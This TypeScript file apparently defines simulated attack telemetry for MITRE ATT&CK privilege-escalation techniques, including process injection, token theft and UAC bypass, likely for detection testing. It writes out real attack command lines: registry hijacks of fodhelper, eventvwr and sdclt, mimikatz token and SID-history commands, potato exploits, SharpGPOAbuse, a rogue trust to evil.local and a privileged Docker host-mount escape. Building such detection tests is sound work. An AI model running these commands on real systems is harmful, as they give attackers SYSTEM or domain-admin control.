import { t, v } from "../dsl";

/** Privilege escalation: injection, token tricks, UAC bypasses, policy abuse. */
export const privilegeEscalation = [
  t("T1055", "Process injection", "Code injected into another process (OpenProcess + CreateRemoteThread).", [
    v("createremotethread", [
      { cmd: "{{tmp}}\\{{name}}.exe", access: ["@explorer", "0x1fffff"], thread: "@explorer" },
    ]),
    v(
      "invoke-shellcode",
      [
        {
          ps: "Invoke-Shellcode -ProcessId (Get-Process explorer).Id -Shellcode $buf -Force",
          access: ["@explorer", "0x143a"],
          thread: "@explorer",
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1055.001", "DLL injection", "LoadLibrary injected with CreateRemoteThread or mavinject.", [
    v("mavinject", [
      {
        cmd: "mavinject.exe {pid:@explorer} /INJECTRUNNING {{appdata}}\\{{rand}}.dll",
        access: ["@explorer", "0x1fffff"],
        thread: "@explorer",
      },
    ]),
    v("loadlibrary-thread", [
      {
        cmd: "{{tools}}\\inject.exe {pid:@explorer} {{tools}}\\{{rand}}.dll",
        access: ["@explorer", "0x43a"],
        thread: "@explorer",
      },
    ]),
  ]),
  t("T1055.002", "PE injection", "A PE written into a remote process and started with a remote thread.", [
    v("pe-inject", [
      { cmd: "{{tmp}}\\{{name}}.exe", access: ["@explorer", "0x1f3fff"], thread: "@explorer" },
    ]),
  ]),
  t("T1055.003", "Thread execution hijacking", "A remote thread suspended and its context changed.", [
    v("hijack", [{ cmd: "{{tmp}}\\{{name}}.exe", access: ["@explorer", "0x1fffff"] }]),
  ]),
  t("T1055.004", "APC injection", "QueueUserAPC into a freshly started, suspended process (early bird).", [
    v("early-bird", [
      { cmd: "{{tmp}}\\{{name}}.exe", as: "l" },
      { cmd: "C:\\Windows\\System32\\notepad.exe", parent: "l" },
    ]),
  ]),
  t("T1055.005", "Thread local storage", "TLS callbacks of a modified binary run the payload.", [
    v("tls", ["{{tmp}}\\{{name}}.exe"]),
  ]),
  t(
    "T1055.011",
    "Extra window memory injection",
    "Shellcode via SetWindowLong into explorer's tray window.",
    [v("ewm", [{ cmd: "{{tmp}}\\{{name}}.exe", access: ["@explorer", "0x1f0fff"] }])],
  ),
  t("T1055.012", "Process hollowing", "A suspended svchost/rundll32 hollowed and resumed by a loader.", [
    v("hollow-svchost", [
      { cmd: "{{tmp}}\\{{name}}.exe", as: "l" },
      { cmd: "C:\\Windows\\System32\\svchost.exe", parent: "l", net: [["{{c2}}", 443]] },
    ]),
    v("hollow-rundll32", [
      { cmd: "{{appdata}}\\{{name}}.exe", as: "l" },
      { cmd: "C:\\Windows\\SysWOW64\\rundll32.exe", parent: "l", net: [["{{c2}}", 443]] },
    ]),
  ]),
  t("T1055.013", "Process doppelgänging", "A transacted file mapped and run as a new process.", [
    v("txf", [
      { cmd: "{{tmp}}\\{{name}}.exe", as: "l" },
      { cmd: "C:\\Windows\\System32\\svchost.exe", parent: "l" },
    ]),
  ]),
  t("T1055.015", "ListPlanting", "Shellcode via a list-view control's message handling.", [
    v("listplanting", [{ cmd: "{{tmp}}\\{{name}}.exe", access: ["@explorer", "0x1f0fff"] }]),
  ]),
  t("T1068", "Privilege escalation exploit", "A local exploit (PrintNightmare, potato) giving SYSTEM.", [
    v("potato", [
      { cmd: "{{tools}}\\PrintSpoofer64.exe -i -c cmd.exe", as: "p", pipes: ["\\{{rand}}\\pipe\\spoolss"] },
      { cmd: "cmd.exe", parent: "p", user: "@system" },
    ]),
    v("juicypotato", [
      {
        cmd: '{{tools}}\\JuicyPotato.exe -l 1337 -p C:\\Windows\\System32\\cmd.exe -a "/c {{tools}}\\{{rand}}.exe" -t *',
        as: "p",
      },
      { cmd: "C:\\Windows\\System32\\cmd.exe /c {{tools}}\\{{rand}}.exe", parent: "p", user: "@system" },
    ]),
  ]),
  t("T1134", "Access token manipulation", "Tokens stolen or created to act as another user.", [
    v("runas-netonly", [
      {
        cmd: "runas /netonly /user:{{domain}}\\{{admin}} cmd.exe",
        then: [{ id: "e", kind: "credentials.explicit", targetUser: "@admin", targetServer: "localhost" }],
      },
    ]),
  ]),
  t("T1134.001", "Token impersonation/theft", "Incognito/Mimikatz token::elevate and PsExec -s.", [
    v(
      "mimikatz-token",
      ['{{tools}}\\mimikatz.exe "privilege::debug" "token::elevate" "token::whoami" exit'],
      { elevated: true },
    ),
    v("incognito", ['{{tools}}\\incognito.exe execute -c "{{domain}}\\{{admin}}" cmd.exe'], {
      elevated: true,
    }),
    v("psexec-system", [{ cmd: "{{tools}}\\PsExec64.exe -accepteula -s -i cmd.exe", as: "p" }], {
      elevated: true,
    }),
  ]),
  t(
    "T1134.002",
    "Create process with token",
    "runas / Start-Process -Credential starting a process as another user.",
    [
      v("runas", [
        {
          cmd: 'runas /user:{{domain}}\\{{admin}} "cmd.exe /c whoami > {{tmp}}\\w.txt"',
          then: [{ id: "e", kind: "credentials.explicit", targetUser: "@admin", targetServer: "localhost" }],
        },
      ]),
      v(
        "start-process-credential",
        [
          {
            ps: "Start-Process cmd.exe -Credential (New-Object System.Management.Automation.PSCredential('{{domain}}\\{{admin}}', $pw))",
            then: [
              { id: "e", kind: "credentials.explicit", targetUser: "@admin", targetServer: "localhost" },
            ],
          },
        ],
        { shell: "ps" },
      ),
    ],
  ),
  t("T1134.003", "Make and impersonate token", "LogonUser with explicit credentials (make_token).", [
    v("make-token", [
      {
        cmd: "{{tools}}\\{{name}}.exe",
        then: [
          {
            id: "l",
            kind: "logon",
            session: "mt",
            user: "@admin",
            logonType: 9,
            authPackage: "Negotiate",
            proc: "@lsass",
          },
          { id: "e", kind: "credentials.explicit", targetUser: "@admin", targetServer: "localhost" },
        ],
      },
    ]),
  ]),
  t(
    "T1134.004",
    "Parent PID spoofing",
    "A process started with a spoofed parent (e.g. under explorer or svchost).",
    [
      v(
        "ppid-spoof",
        [
          {
            ps: "Start-ATHProcessUnderSpecificParent -FilePath C:\\Windows\\System32\\cmd.exe -ParentId (Get-Process explorer).Id",
          },
          { cmd: "C:\\Windows\\System32\\cmd.exe", parent: "@explorer" },
        ],
        { shell: "ps" },
      ),
      v(
        "selectmyparent",
        [
          { cmd: "{{tools}}\\SelectMyParent.exe notepad.exe {pid:@lsass}" },
          { cmd: "notepad.exe", parent: "@lsass" },
        ],
        { elevated: true },
      ),
    ],
  ),
  t("T1134.005", "SID-history injection", "sIDHistory added with Mimikatz sid::add.", [
    v(
      "mimikatz-sid",
      [
        '{{tools}}\\mimikatz.exe "privilege::debug" "sid::patch" "sid::add /sam:{{user}} /new:S-1-5-21-{{n}}-512" exit',
      ],
      { elevated: true, user: "@admin" },
    ),
  ]),
  t("T1484", "Domain or tenant policy modification", "GPOs or trusts changed to push code.", [
    v(
      "new-gpo",
      [{ ps: "New-GPO -Name '{{name}}' | New-GPLink -Target 'DC={{domain}},DC=local'", net: [["@dc", 445]] }],
      { shell: "ps", user: "@admin" },
    ),
  ]),
  t(
    "T1484.001",
    "Group policy modification",
    "A scheduled task or script pushed through a GPO (SharpGPOAbuse, direct SYSVOL writes).",
    [
      v(
        "sharpgpoabuse",
        [
          {
            cmd: '{{tools}}\\SharpGPOAbuse.exe --AddComputerTask --TaskName "{{name}}" --Author {{domain}}\\{{admin}} --Command "cmd.exe" --Arguments "/c \\\\{{srv}}\\share\\{{rand}}.exe" --GPOName "Default Domain Policy"',
            net: [["@dc", 445]],
          },
        ],
        { user: "@admin" },
      ),
      v(
        "sysvol-write",
        [
          {
            cmd: "cmd.exe /c copy {{tmp}}\\ScheduledTasks.xml \\\\{{dcfqdn}}\\SYSVOL\\{{dns}}\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}\\Machine\\Preferences\\ScheduledTasks\\",
            net: [["@dc", 445]],
          },
        ],
        { user: "@admin" },
      ),
    ],
  ),
  t(
    "T1484.002",
    "Trust modification",
    "Federation settings changed (Set-MsolDomainFederationSettings) or a new trust added.",
    [
      v("netdom", ["netdom trust {{dns}} /domain:evil.local /add /realm /passwordt:P@ss{{n}}"], {
        user: "@admin",
      }),
      v("aadinternals", [{ ps: "ConvertTo-AADIntBackdoor -DomainName {{dns}}" }], { shell: "ps" }),
    ],
  ),
  t("T1548", "Abuse elevation control", "UAC bypass through an auto-elevating binary.", [
    v("fodhelper", [
      {
        cmd: 'reg add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /d "cmd.exe /c {{tmp}}\\{{rand}}.exe" /f',
        reg: [
          [
            "HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command",
            "(Default)",
            "cmd.exe /c {{tmp}}\\{{rand}}.exe",
          ],
        ],
      },
      "fodhelper.exe",
    ]),
  ]),
  t(
    "T1548.002",
    "Bypass UAC",
    "fodhelper/ms-settings, eventvwr/mscfile and sdclt hijacks that start a payload at High integrity.",
    [
      v("fodhelper", [
        {
          cmd: "reg add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /v DelegateExecute /t REG_SZ /f",
          reg: [["HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command", "DelegateExecute", ""]],
        },
        {
          cmd: 'reg add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /d "C:\\Windows\\System32\\cmd.exe /c start {{tmp}}\\{{rand}}.exe" /f',
          reg: [
            [
              "HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command",
              "(Default)",
              "C:\\Windows\\System32\\cmd.exe /c start {{tmp}}\\{{rand}}.exe",
            ],
          ],
        },
        { cmd: "C:\\Windows\\System32\\fodhelper.exe", as: "fod", elevated: true },
        { cmd: "C:\\Windows\\System32\\cmd.exe /c start {{tmp}}\\{{rand}}.exe", parent: "fod" },
      ]),
      v(
        "eventvwr",
        [
          {
            ps: "New-Item 'HKCU:\\Software\\Classes\\mscfile\\shell\\open\\command' -Force; Set-ItemProperty 'HKCU:\\Software\\Classes\\mscfile\\shell\\open\\command' -Name '(default)' -Value 'C:\\Windows\\System32\\cmd.exe' -Force",
            reg: [
              [
                "HKCU\\Software\\Classes\\mscfile\\shell\\open\\command",
                "(Default)",
                "C:\\Windows\\System32\\cmd.exe",
              ],
            ],
          },
          {
            cmd: "C:\\Windows\\System32\\eventvwr.msc",
            image: "C:\\Windows\\System32\\eventvwr.exe",
            as: "ev",
            parent: "sh",
            elevated: true,
          },
          { cmd: '"C:\\Windows\\System32\\cmd.exe"', parent: "ev" },
        ],
        { shell: "ps" },
      ),
      v("sdclt", [
        {
          cmd: 'reg add "HKCU\\Software\\Classes\\Folder\\shell\\open\\command" /d "cmd.exe /c {{tmp}}\\{{rand}}.exe" /f',
          reg: [
            [
              "HKCU\\Software\\Classes\\Folder\\shell\\open\\command",
              "(Default)",
              "cmd.exe /c {{tmp}}\\{{rand}}.exe",
            ],
          ],
        },
        {
          cmd: 'reg add "HKCU\\Software\\Classes\\Folder\\shell\\open\\command" /v DelegateExecute /f',
          reg: [["HKCU\\Software\\Classes\\Folder\\shell\\open\\command", "DelegateExecute", ""]],
        },
        { cmd: "sdclt.exe", as: "sd", elevated: true },
        { cmd: "cmd.exe /c {{tmp}}\\{{rand}}.exe", parent: "sd" },
      ]),
      v("computerdefaults", [
        {
          cmd: 'reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /d "{{tmp}}\\{{rand}}.exe" /f',
          reg: [
            [
              "HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command",
              "(Default)",
              "{{tmp}}\\{{rand}}.exe",
            ],
          ],
        },
        { cmd: "C:\\Windows\\System32\\ComputerDefaults.exe", as: "cd", elevated: true },
        { cmd: "{{tmp}}\\{{rand}}.exe", parent: "cd" },
      ]),
    ],
  ),
  t(
    "T1611",
    "Escape to host",
    "A container breakout seen as a host process started by the container runtime.",
    [
      v("docker-mount", [
        '"C:\\Program Files\\Docker\\Docker\\resources\\bin\\docker.exe" run --rm -v C:\\:/host --privileged alpine chroot /host',
      ]),
    ],
  ),
];
